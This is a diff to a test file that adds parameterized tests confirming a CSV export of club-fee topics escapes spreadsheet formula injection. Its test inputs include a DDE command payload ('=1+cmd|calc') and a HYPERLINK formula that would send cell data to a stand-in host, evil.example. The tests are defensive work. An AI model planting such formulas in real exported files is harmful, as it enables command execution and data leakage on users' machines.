@@ -52,3 +52,18 @@ test('a ruleset that is unread on a topic has no cell in topics.json, and is 未
   expect(Object.keys(topicsDocument(unread)[0]?.cells ?? {})).toEqual(['tennis'])
   expect(topicsCsv(unread).split('\r\n')[1]).toMatch(/,定めあり,1000,"月額1,000円",1,,未読,,,,$/u)
 })
+
+test.each([
+  ['=1+cmd|calc', "'=1+cmd|calc"],
+  ['+cmd', "'+cmd"],
+  ['-2+3', "'-2+3"],
+  ['@SUM(A1)', "'@SUM(A1)"],
+  ['=HYPERLINK("https://evil.example/?"&A2,"x")', `"'=HYPERLINK(""https://evil.example/?""&A2,""x"")"`],
+  ['-2,000', '"-2,000"'],
+  ['+5', '+5'],
+  ['部費 = 会費', '部費 = 会費']
+])('no spreadsheet runs the label %s', (label, written) => {
+  const files = { ...twoClubs(), ...topicFile({ tennis: stated('1000', '月額1,000円', "['1']"), badminton: NONE }) }
+  files['topics/fee.mdx'] = (files['topics/fee.mdx'] ?? '').replace(/^label: .*$/mu, `label: '${label}'`)
+  expect(topicsCsv(load(contentFolder(files), '2026-01-01')).split('\r\n')[1]).toContain(`,${written},`)
+})
